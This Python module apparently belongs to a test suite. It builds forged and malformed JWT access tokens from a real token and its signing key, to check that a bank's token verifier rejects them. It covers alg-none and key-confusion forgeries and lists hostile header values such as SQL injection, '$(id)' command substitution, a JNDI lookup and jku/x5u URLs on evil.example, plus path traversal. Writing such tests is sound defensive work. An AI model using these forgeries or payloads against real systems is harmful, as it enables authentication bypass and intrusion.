"""What a forger tries with access tokens: shapes made of a good token of a real bank and the very key that signed it."""

import hashlib
import hmac
import json
from base64 import urlsafe_b64encode
from collections.abc import Iterator, Mapping
from typing import Any
from uuid import uuid4

import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

Shapes = Iterator[tuple[str, str]]
"""The name of a shape, and a token that has it."""

NO_ALGORITHM = ("none", "None", "NONE", "nOnE", "none ", " none", "none\0", "", None, False, 0, [], ["none"], {}, "null")
OTHER_ALGORITHMS = (
    "HS256",
    "HS384",
    "HS512",
    "RS256",
    "PS256",
    "ES256",
    "ES256K",
    "ES512",
    "Ed448",
    "Ed25519",
    "eddsa",
    "EDDSA",
)
KEY_IDS: tuple[Any, ...] = (
    *(
        "",
        " ",
        ".",
        "..",
        "../../../../dev/null",
        "/dev/null",
        "C:\\nul",
        "file:///dev/null",
        "https://evil.example/key",
        "|true",
    ),
    *(
        "' OR 1=1 --",
        "x' UNION SELECT 'AAAA' --",
        "$(id)",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "%00",
        "a\0b",
        "é",
        "\u202e",
    ),
    *("x" * 1_000, "x" * 2_900, None, True, 0, 1, -1, 1.5, [], {}, {"$ne": ""}),
)
FOREIGN_HEADERS: tuple[dict[str, Any], ...] = (
    {"jku": "https://evil.example/keys"},
    {"x5u": "https://evil.example/chain"},
    {"x5c": ["MIIB"]},
    {"x5t": "AAAA"},
    {"x5t#S256": "AAAA"},
    {"crit": []},
    {"crit": ["exp"]},
    {"crit": ["b64"], "b64": False},
    {"b64": False},
    {"zip": "DEF"},
    {"cty": "JWT"},
    {"enc": "A256GCM"},
    {"iss": "coffer"},
    {"": ""},
)
TYPES = (
    None,
    "",
    "JWT",
    "jwt",
    "at+JWT",
    "AT+JWT",
    "application/at+jwt",
    "rt+jwt",
    "id_token",
    "mfa+jwt",
    "dpop+jwt",
    7,
    ["at+jwt"],
)
MINUTE, YEAR = 60, 365 * 86_400
_GONE = object()


def part(value: Any) -> str:
    """One part of a token: base64url of the bytes, or of the value's JSON."""
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return urlsafe_b64encode(raw).rstrip(b"=").decode()


def twice(value: Mapping[str, Any], name: str, first: Any) -> bytes:
    """A JSON object in which a name comes twice, its right value last."""
    return f"{{{json.dumps(name)}:{json.dumps(first)},{json.dumps(value)[1:]}".encode()


class Forge:
    """A good token's header and claims, and the private key."""

    def __init__(self, good: str, private_key: bytes) -> None:
        self.good = good
        self.key = Ed25519PrivateKey.from_private_bytes(private_key)
        self.header: dict[str, Any] = jwt.get_unverified_header(good)
        self.claims: dict[str, Any] = jwt.decode(good, options={"verify_signature": False})

    def token(self, header: Any = None, claims: Any = None, key: Ed25519PrivateKey | None = None) -> str:
        """Signed as it must be, whatever it says."""
        head = f"{part(self.header if header is None else header)}.{part(self.claims if claims is None else claims)}"
        return f"{head}.{part((key or self.key).sign(head.encode()))}"

    def with_header(self, **changed: Any) -> str:
        return self.token(header=_changed(self.header, changed))

    def with_claims(self, **changed: Any) -> str:
        return self.token(claims=_changed(self.claims, changed))

    def shapes(self) -> Shapes:
        """All of them."""
        yield from self._algorithms()
        yield from self._headers()
        yield from self._claims()
        yield from self._texts()

    def _algorithms(self) -> Shapes:
        for algorithm in NO_ALGORITHM:
            head = f"{part({**self.header, 'alg': algorithm})}.{part(self.claims)}"
            yield f"alg {algorithm!r}, unsigned", f"{head}."
            yield f"alg {algorithm!r}, signed", self.with_header(alg=algorithm)
        public = self.key.public_key()
        x = public.public_bytes_raw()
        secrets = {
            "the public key": x,
            "the public key in base64": part(x).encode(),
            "its JWK": json.dumps({"crv": "Ed25519", "kty": "OKP", "x": part(x)}, separators=(",", ":")).encode(),
            "its PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
            "its DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
            "nothing": b"",
        }
        for name, secret in secrets.items():
            for algorithm, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512"), ("EdDSA", "sha512")):
                head = f"{part({**self.header, 'alg': algorithm})}.{part(self.claims)}"
                yield f"{algorithm} keyed with {name}", f"{head}.{part(hmac.digest(secret, head.encode(), digest))}"
        for algorithm in OTHER_ALGORITHMS:
            yield f"alg {algorithm}", self.with_header(alg=algorithm)
        other = Ed25519PrivateKey.generate()
        yield "another key under our id", self.token(key=other)
        jwk = {"kty": "OKP", "crv": "Ed25519", "x": part(other.public_key().public_bytes_raw())}
        yield "another key, brought along", self.token(header={**self.header, "jwk": jwk}, key=other)
        thumbprint = part(hashlib.sha256(json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()).digest())
        yield "another key under its own id", self.token(header={**self.header, "kid": thumbprint}, key=other)

    def _headers(self) -> Shapes:
        for key_id in KEY_IDS:
            yield f"kid {key_id!r:.40}", self.with_header(kid=key_id)
        for name, changed in (("NUL", "\0"), ("a space", " "), ("a slash", "/")):
            yield f"kid and {name}", self.with_header(kid=self.header["kid"] + changed)
        for more in FOREIGN_HEADERS:
            yield f"header {more}", self.with_header(**more)
        for kind in TYPES:
            yield f"typ {kind!r}", self.with_header(typ=kind)
        for name in self.header:
            yield f"no {name}", self.with_header(**{name: _GONE})
            yield f"{name} twice", self.token(header=twice(self.header, name, "none"))
        for raw in (
            b"",
            b"null",
            b"[]",
            b'"EdDSA"',
            b"7",
            b"{",
            b"\xef\xbb\xbf" + json.dumps(self.header).encode(),
            b"[" * 1_500,
        ):
            yield f"header {raw!r:.30}", self.token(header=raw)
        yield "header in UTF-16", self.token(header=json.dumps(self.header).encode("utf-16"))

    def _claims(self) -> Shapes:
        now = self.claims["iat"]
        for exp in (now, now - 1, now - YEAR, 0, -1):
            yield f"expired {exp - now}", self.with_claims(exp=exp, iat=min(now, exp - 1))
        for exp in (
            "NaN",
            "Infinity",
            "-Infinity",
            "1e308",
            "1e400",
            "1e18",
            "9" * 30,
            "9" * 1_000,
            "null",
            "true",
            '"soon"',
            "[]",
        ):
            yield f"exp {exp:.20}", self.token(claims=self._said("exp", exp))
        for exp in (str(now + MINUTE), now + 0.5, [now + MINUTE]):
            yield f"exp {exp!r}", self.with_claims(exp=exp)
        for seconds in (5 * MINUTE, YEAR, 2**62 - now):
            yield f"iat in {seconds} s", self.with_claims(iat=now + seconds)
            yield f"nbf in {seconds} s", self.with_claims(nbf=now + seconds)
        yield "nbf, which ours have not", self.with_claims(nbf=now - 1)
        audience, issuer = self.claims["aud"], self.claims["iss"]
        for wrong in (
            "",
            "somebody",
            audience.upper(),
            f"{audience} ",
            None,
            [],
            [audience],
            [audience, "other"],
            {audience: 1},
            7,
        ):
            yield f"aud {wrong!r}", self.with_claims(aud=wrong)
        for wrong in ("", "somebody", issuer.upper(), f"{issuer}/", f"https://{issuer}", None, [issuer], 7):
            yield f"iss {wrong!r}", self.with_claims(iss=wrong)
        for sub in ("admin", "", None, str(uuid4()), [self.claims["sub"]], 0, "../admin"):
            yield f"sub {sub!r}", self.with_claims(sub=sub)
        for sid in ("", None, str(uuid4()), 0, [self.claims["sid"]]):
            yield f"sid {sid!r}", self.with_claims(sid=sid)
        for roles in ("admin", ["admin"] * 11, [["admin"]], {"admin": True}, None, ["Admin"], ["a" * 200]):
            yield f"roles {roles!r:.30}", self.with_claims(roles=roles)
        for more in (
            {"is_admin": True},
            {"scope": "*"},
            {"permissions": ["users:write"]},
            {"admin": 1},
            {"": 1},
            {"client_id": "x"},
        ):
            yield f"claim {more}", self.with_claims(**more)
        for name in ("iss", "aud", "sub", "sid", "jti", "roles", "iat", "exp"):
            yield f"no {name}", self.with_claims(**{name: _GONE})
            yield f"{name} twice", self.token(claims=twice(self.claims, name, "x"))
        for raw in (b"", b"null", b"[]", b"7", b'"x"', b"\xff", b"\xef\xbb\xbf{}", b"{" * 1_500, b"[" * 1_500):
            yield f"claims {raw!r:.30}", self.token(claims=raw)

    def _texts(self) -> Shapes:
        head, body, signature = self.good.split(".")
        yield "no signature", f"{head}.{body}."
        yield "two parts", f"{head}.{body}"
        yield "five parts, as if encrypted", f"{self.good}.{body}.{signature}"
        yield "a signature of zeros", f"{head}.{body}.{part(bytes(64))}"
        yield "a short signature", f"{head}.{body}.{part(bytes(32))}"
        yield "claims of another token", f"{head}.{part({**self.claims, 'roles': ['admin']})}.{signature}"
        for more in (
            "=",
            "==",
            "A",
            "~",
            "!",
            ",",
            f", {self.good}",
            f" {self.good}",
            "%00",
            ".",
            "é",
            "\t.",
            f",Bearer {self.good}",
        ):
            yield f"and {more!r:.10}", self.good + more
            yield f"{more!r:.10} inside its signature", f"{head}.{body}.{signature[:9]}{more}{signature[9:]}"
        last = signature[-1]
        for same in "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_":
            if same != last:
                yield f"{same} for {last} at its end", self.good[:-1] + same
        yield "standard base64", self.good.replace("-", "+").replace("_", "/") + "=="
        for text in ("null", "undefined", "true", "{}", "[]", "0", "...", "." * 4_000, "x" * 4_097, "A.A.A", self.good * 4):
            yield f"{text:.12}", text

    def _said(self, name: str, raw: str) -> bytes:
        """The claims with something for a value that only raw JSON can say."""
        return json.dumps(self.claims | {name: "@"}).replace('"@"', raw).encode()


def _changed(value: Mapping[str, Any], changed: Mapping[str, Any]) -> dict[str, Any]:
    return {name: each for name, each in {**value, **changed}.items() if each is not _GONE}
